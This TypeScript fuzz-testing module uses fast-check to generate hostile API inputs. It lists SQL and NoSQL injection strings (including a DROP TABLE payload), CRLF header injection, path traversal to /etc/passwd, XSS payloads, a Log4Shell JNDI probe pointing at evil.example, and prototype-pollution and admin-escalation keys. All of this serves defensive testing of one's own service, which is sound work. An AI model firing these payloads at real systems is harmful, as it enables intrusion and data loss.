// Hostile values (fast-check): strings and JSON an attacker or a broken client might send, and values that
// conform to an OpenAPI schema (so they get past validation), optionally tainted or corrupted after.
import fc from 'fast-check';
import { type JsonSchema, type OpenApiDocument, resolveSchema } from './openapi';

/** A JSON object as ordered entries, so `__proto__` and duplicate keys survive into the text we send. */
export class JsonObject {
  constructor(readonly entries: readonly (readonly [string, JsonValue])[]) {}
}

/** A number literal that JS cannot hold as written (`1e999`, `-0`, 30 digits). */
export class RawNumber {
  constructor(readonly text: string) {}
}

export type JsonValue = null | boolean | number | string | RawNumber | JsonObject | JsonValue[];

export function toJsonText(value: JsonValue): string {
  if (value instanceof JsonObject) {
    return `{${value.entries.map(([key, item]) => `${JSON.stringify(key)}:${toJsonText(item)}`).join(',')}}`;
  }
  if (value instanceof RawNumber) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJsonText).join(',')}]`;
  return JSON.stringify(value);
}

/** A long repetition, kept short in counterexamples: `prefix + repeat × times + suffix`. */
export interface Big {
  big: true;
  prefix?: string;
  repeat: string;
  times: number;
  suffix?: string;
}

export type Text = string | Big;

export const textOf = (value: Text): string =>
  typeof value === 'string'
    ? value
    : `${value.prefix ?? ''}${value.repeat.repeat(value.times)}${value.suffix ?? ''}`;

export const big = (repeat: string, times: number, prefix?: string, suffix?: string): Big => ({
  big: true,
  repeat,
  times,
  ...(prefix === undefined ? {} : { prefix }),
  ...(suffix === undefined ? {} : { suffix }),
});

const RTL = '\u202e\u0627\u0644\u0639\u0631\u0628\u064a\u0629\u200f';

/** Strings that have broken parsers, databases, logs, HTML and redirects somewhere before. */
export const NASTY_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t',
  '\u0000',
  'a\u0000b',
  'ann@example.com\u0000.evil.example',
  '\ud800',
  '\udfff',
  'x\ud83dy',
  '\ud83d\ude00',
  RTL,
  'invoice\u202egnp.exe',
  '\u200b\u200c\u200d\ufeff',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'Z̸̡̛̖a̶l̷g̸o̵',
  '\u2028\u2029',
  'Ａｄｍｉｎ',
  'ＡＮＮ@ＥＸＡＭＰＬＥ.ＣＯＭ',
  'İıßẞﬀ',
  '\u0085\u00a0\u3000',
  '\u001b[31mred\u001b[0m',
  '\b\f\v\u007f',
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1); SELECT pg_sleep(10); --',
  "admin'--",
  '\\',
  "\\'",
  '%',
  '%00',
  '%zz',
  '%E0%A4%A',
  '%ED%A0%80',
  '%C0%AF',
  '+',
  '{"$gt": ""}',
  '{"$ne": null}',
  '[]',
  '{}',
  'null',
  'true',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '9007199254740993',
  '0x1F',
  '\r\nSet-Cookie: pwned=1',
  '\r\n\r\n<script>alert(1)</script>',
  'x\nLocation: https://evil.example',
  '%0d%0aSet-Cookie:%20pwned=1',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '/..;/',
  '//evil.example',
  '/\\evil.example',
  'https://evil.example/',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'http://app.edgeauth.test.evil.example',
  'http://app.edgeauth.test@evil.example/',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  'a'.repeat(129),
  'a'.repeat(257),
  'a'.repeat(4097),
  '🔥'.repeat(600),
  '\u0000'.repeat(300),
];

export const nastyString = fc.constantFrom(...NASTY_STRINGS);

/** Characters to slip into an otherwise valid value; NUL and lone surrogates (valid JSON escapes) twice as often. */
const TAINTS = [
  '\u0000',
  '\u0000',
  '\ud800',
  '\udc00',
  '\ud83d',
  '🔥',
  RTL,
  "'",
  '"',
  '\\',
  '\r\n',
  '%00',
  '\u2028',
  '\ufeff',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: nastyString },
  // `binary` includes lone surrogates and control characters.
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 24 }) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(nastyString, fc.string({ maxLength: 8 }), nastyString)
      .map(([a, b, c]) => `${a}${b}${c}`),
  },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom('a', 'é', '🔥', '\u0000', 'ا', "'", '%', '\ud800'),
        fc.integer({ min: 100, max: 3000 }),
      )
      .map(([ch, times]) => ch.repeat(times)),
  },
);

const hostileNumber: fc.Arbitrary<JsonValue> = fc.oneof(
  fc.constantFrom<JsonValue>(
    0,
    -1,
    1.5,
    2 ** 31,
    2 ** 53 + 2,
    -(2 ** 63),
    1e308,
    -1e308,
    5e-324,
    100_000_001,
    new RawNumber('-0'),
    new RawNumber('1e999'),
    new RawNumber('-1e999'),
    new RawNumber('123456789012345678901234567890'),
    new RawNumber('0.1e-400'),
    new RawNumber('1E+2'),
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** Keys a mass-assignment or prototype-pollution attempt would use. */
export const SUSPICIOUS_KEYS: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'is_admin',
  'isAdmin',
  'is_verified',
  'isVerified',
  'email_verified',
  'is_active',
  'role',
  'admin',
  'id',
  'user_id',
  'userId',
  'password_hash',
  'has_password',
  'stripe_customer_id',
  'status',
  'token_type',
  '$where',
  '',
];

export const hostileKey = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...SUSPICIOUS_KEYS) },
  { weight: 1, arbitrary: hostileString },
);

const escalation: fc.Arbitrary<JsonValue> = fc.constantFrom<JsonValue>(
  true,
  'admin',
  new JsonObject([['is_admin', true]]),
  new JsonObject([['prototype', new JsonObject([['is_admin', true]])]]),
  new JsonObject([['__proto__', new JsonObject([['is_verified', true]])]]),
);

export const hostileValue: fc.Arbitrary<JsonValue> = fc.letrec<{ value: JsonValue }>((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    hostileNumber,
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 3 }),
    fc.array(fc.tuple(hostileKey, tie('value')), { maxLength: 3 }).map((entries) => new JsonObject(entries)),
  ),
})).value;

/** A value of the wrong type for whatever the field is. */
const wrongTyped: fc.Arbitrary<JsonValue> = fc.oneof(
  fc.constantFrom<JsonValue>(
    null,
    true,
    0,
    -1,
    '',
    '1',
    [],
    [null],
    new JsonObject([]),
    new JsonObject([['$gt', '']]),
  ),
  hostileValue,
);

/** Values the test file knows to be real (an account's email, a plan's id and code), to reach deeper code. */
export interface Known {
  emails: string[];
  uuids: string[];
  strings: string[];
}

/** Inserts one of TAINTS into free text (no pattern or format), keeping within the length limits. */
function withTaint(text: fc.Arbitrary<string>, min: number, max: number): fc.Arbitrary<string> {
  return fc
    .tuple(text, fc.constantFrom(...TAINTS), fc.nat())
    .map(([value, taint, at]) => {
      const cut = at % (value.length + 1);
      return `${value.slice(0, cut)}${taint}${value.slice(cut)}`;
    })
    .filter((value) => value.length >= min && value.length <= max);
}

function conformingString(schema: JsonSchema, known: Known, taint: boolean): fc.Arbitrary<JsonValue> {
  const min = schema.minLength ?? 0;
  const max = schema.maxLength ?? 64;
  const pattern = schema.pattern ? new RegExp(schema.pattern) : undefined;
  const fits = (value: string) =>
    value.length >= min && value.length <= max && (!pattern || pattern.test(value));
  let base: fc.Arbitrary<string>;
  let real: string[];
  if (schema.format === 'email') {
    const simple = fc
      .tuple(
        fc.stringMatching(/^[a-z0-9][a-z0-9_+-]{0,15}$/),
        fc.stringMatching(/^[a-z0-9]{1,12}$/),
        fc.constantFrom('com', 'io', 'test'),
      )
      .map(([local, domain, tld]) => `${local}@${domain}.${tld}`);
    base = fc.oneof(simple, fc.emailAddress()).filter((email) => email.length <= max);
    real = known.emails;
  } else if (schema.format === 'uuid') {
    base = fc.uuid();
    real = known.uuids;
  } else if (schema.format === 'uri' || schema.format === 'url') {
    base = fc.webUrl();
    real = [];
  } else if (pattern) {
    base = fc.stringMatching(pattern).filter(fits);
    real = known.strings.filter(fits);
  } else {
    const upTo = Math.min(max, min + 32);
    base = fc.oneof(
      fc.string({ minLength: min, maxLength: upTo }),
      fc.string({ unit: 'grapheme', minLength: min, maxLength: upTo }).filter(fits),
    );
    real = known.strings.filter(fits);
    if (taint)
      return fc.oneof({ weight: 1, arbitrary: base }, { weight: 3, arbitrary: withTaint(base, min, max) });
  }
  return real.length > 0
    ? fc.oneof({ weight: 2, arbitrary: base }, { weight: 1, arbitrary: fc.constantFrom(...real) })
    : base;
}

function mergeAll(doc: OpenApiDocument, schemas: JsonSchema[]): JsonSchema {
  const parts = schemas.map((schema) => resolveSchema(doc, schema));
  return {
    type: 'object',
    properties: Object.assign({}, ...parts.map((part) => part.properties ?? {})),
    required: parts.flatMap((part) => part.required ?? []),
  };
}

/**
 * Values that satisfy `schema` as far as JSON Schema says (enough to get past validation often). With
 * `taint`, free-text strings carry NUL, lone surrogates, RTL marks, quotes or CRLF: still valid, and so
 * carried on to the database, Stripe, emails and logs.
 */
export function conforming(
  doc: OpenApiDocument,
  input: JsonSchema,
  known: Known,
  taint = false,
): fc.Arbitrary<JsonValue> {
  const recurse = (next: JsonSchema) => conforming(doc, next, known, taint);
  const schema = resolveSchema(doc, input);
  if (schema.enum) return fc.constantFrom(...(schema.enum as JsonValue[]));
  if (schema.allOf) return recurse(mergeAll(doc, schema.allOf));
  const choices = schema.anyOf ?? schema.oneOf;
  if (choices) return fc.oneof(...choices.map(recurse));
  const types = Array.isArray(schema.type) ? schema.type : schema.type ? [schema.type] : [];
  if (types.length > 1) return fc.oneof(...types.map((type) => recurse({ ...schema, type })));
  const clamp = (n: number) => Math.max(-(2 ** 31), Math.min(2 ** 31 - 1, n));
  switch (types[0]) {
    case 'string':
      return conformingString(schema, known, taint);
    case 'integer':
      return fc.integer({ min: clamp(schema.minimum ?? -1000), max: clamp(schema.maximum ?? 1_000_000) });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(recurse(schema.items ?? {}), {
        minLength: schema.minItems ?? 0,
        maxLength: Math.max(schema.minItems ?? 0, Math.min(schema.maxItems ?? 4, 4)),
      });
    case 'object': {
      const properties = Object.entries(schema.properties ?? {});
      const model = Object.fromEntries(properties.map(([name, field]) => [name, recurse(field)]));
      const requiredKeys = (schema.required ?? []).filter((name) => name in model);
      return fc
        .record(model, { requiredKeys })
        .map((record) => new JsonObject(Object.entries(record) as [string, JsonValue][]));
    }
    default:
      return hostileValue;
  }
}

type Mutation =
  | { op: 'set' | 'add' | 'duplicate'; key: string; value: JsonValue }
  | { op: 'drop'; key: string };

function mutation(doc: OpenApiDocument, schema: JsonSchema, known: Known): fc.Arbitrary<Mutation> {
  const fields = Object.entries(schema.properties ?? {});
  const field = fields.length > 0 ? fc.constantFrom(...fields.map(([name]) => name)) : hostileKey;
  const tainted = fields.length
    ? fc.oneof(
        ...fields.map(([name, fieldSchema]) =>
          fc
            .tuple(conforming(doc, fieldSchema, known), fc.constantFrom(...TAINTS), fc.nat())
            .map(([value, taint, at]): Mutation => {
              const text = typeof value === 'string' ? value : toJsonText(value);
              const cut = text.length === 0 ? 0 : at % (text.length + 1);
              return { op: 'set', key: name, value: `${text.slice(0, cut)}${taint}${text.slice(cut)}` };
            }),
        ),
      )
    : fc.record({ op: fc.constant('add' as const), key: hostileKey, value: hostileValue });
  return fc.oneof(
    { weight: 3, arbitrary: tainted },
    {
      weight: 3,
      arbitrary: fc.record({
        op: fc.constant('set' as const),
        key: field,
        value: fc.oneof({ weight: 2, arbitrary: hostileString }, { weight: 2, arbitrary: wrongTyped }),
      }),
    },
    { weight: 1, arbitrary: fc.record({ op: fc.constant('drop' as const), key: field }) },
    {
      weight: 2,
      arbitrary: fc.record({
        op: fc.constant('add' as const),
        key: hostileKey,
        value: fc.oneof(escalation, hostileValue),
      }),
    },
    {
      weight: 1,
      arbitrary: fc.record({ op: fc.constant('duplicate' as const), key: field, value: hostileValue }),
    },
  );
}

function mutate(object: JsonObject, change: Mutation): JsonObject {
  const { entries } = object;
  switch (change.op) {
    case 'set':
      return entries.some(([key]) => key === change.key)
        ? new JsonObject(entries.map(([key, value]) => [key, key === change.key ? change.value : value]))
        : new JsonObject([...entries, [change.key, change.value]]);
    case 'drop':
      return new JsonObject(entries.filter(([key]) => key !== change.key));
    default:
      return new JsonObject([...entries, [change.key, change.value]]);
  }
}

/** `valid` with one to three corruptions: a field tainted, wrong-typed, dropped or duplicated, or one added. */
export function corrupted(
  doc: OpenApiDocument,
  schema: JsonSchema,
  known: Known,
  valid: fc.Arbitrary<JsonValue>,
): fc.Arbitrary<JsonValue> {
  return fc
    .tuple(valid, fc.array(mutation(doc, schema, known), { minLength: 1, maxLength: 3 }))
    .map(([value, changes]) => (value instanceof JsonObject ? changes.reduce(mutate, value) : value));
}

export const utf8 = (text: string) => new TextEncoder().encode(text);

export const hex = (bytes: Iterable<number>) =>
  [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('');
